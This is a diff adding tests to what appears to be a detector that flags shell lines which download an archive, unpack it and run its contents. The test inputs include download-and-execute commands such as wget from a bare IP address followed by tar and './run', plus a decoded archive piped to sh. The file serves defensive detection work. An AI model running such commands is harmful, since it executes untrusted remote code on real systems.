@@ -118,6 +118,23 @@ describe("a program that the line itself has fetched", () => {
   });
 });
 
+describe("a program out of an archive that the line has fetched", () => {
+  const unpacked = (host: string) => shown(`wget http://${host}/k.tgz && tar xzf k.tgz && cd k && ./run`);
+  it("is taken for fetched where the archive comes from a machine that has no name", () => {
+    expect(unpacked("192.0.2.7")).toContain("sh/fetched-program: ./run");
+    expect(unpacked("h.example").join()).not.toContain("fetched-program");
+    expect(unpacked("10.0.0.5").join()).not.toContain("fetched-program");
+  });
+  it("stays so under another name", () => {
+    const line = "wget http://192.0.2.7/k.tgz -O a; tar xzf a; mv k/run r; ./r";
+    expect(shown(line)).toContain("sh/fetched-program: ./r");
+  });
+  it("is the script itself, not the archive", () => {
+    const line = "wget http://192.0.2.7/k.tgz; tar xzf k.tgz; sh k/run.sh";
+    expect(shown(line)).toContain("sh/fetched-file: k/run.sh");
+  });
+});
+
 describe("what a shell is handed", () => {
   it.each([
     ["unpacked", "xz -dc ./k.xz | sh", "sh/decoded: ./k.xz"],
